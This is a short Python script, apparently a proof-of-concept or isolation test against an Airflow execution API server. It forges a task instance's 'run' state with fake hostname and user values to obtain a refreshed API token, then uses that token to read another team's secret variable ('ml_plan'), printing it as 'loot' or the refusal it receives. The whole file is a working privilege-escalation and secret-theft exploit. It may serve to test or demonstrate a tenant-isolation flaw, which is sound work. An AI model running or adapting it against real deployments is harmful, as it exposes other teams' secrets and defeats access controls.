"""Reads team ml's secret with the token of a task, from any pod, by plain HTTP.

As a program it gets a token for all routes in ``TOKEN``, or the workload of a task as its last argument; the
workload's token is only valid for ``run``.
"""

import json
import os
import sys
from datetime import datetime, timezone
from urllib.error import HTTPError
from urllib.request import Request, urlopen

SERVER = "http://airflow-api-server:8080/execution"


def attempt(read):
    try:
        print(f"loot: {read()}", flush=True)
    except HTTPError as error:
        print(f"refused: {error.code} {error.read().decode()}", flush=True)
    except Exception as error:
        print(f"refused: {error!r}", flush=True)


def ask(method, path, token, body=None):
    headers = {"authorization": f"Bearer {token}", "content-type": "application/json"}
    data = None if body is None else json.dumps(body).encode()
    return urlopen(Request(f"{SERVER}/{path}", data, headers, method=method))


def run(workload):
    started = {
        "state": "running",
        "hostname": "forged",
        "unixname": "forged",
        "pid": os.getpid(),
        "start_date": datetime.now(timezone.utc).isoformat(),
    }
    with ask("PATCH", f"task-instances/{workload['ti']['id']}/run", workload["token"], started) as answer:
        return answer.headers["refreshed-api-token"]


def plan():
    token = os.environ.get("TOKEN") or run(json.loads(sys.argv[-1]))
    with ask("GET", "variables/ml_plan", token) as answer:
        return json.load(answer)["value"]


if __name__ == "__main__":
    attempt(plan)
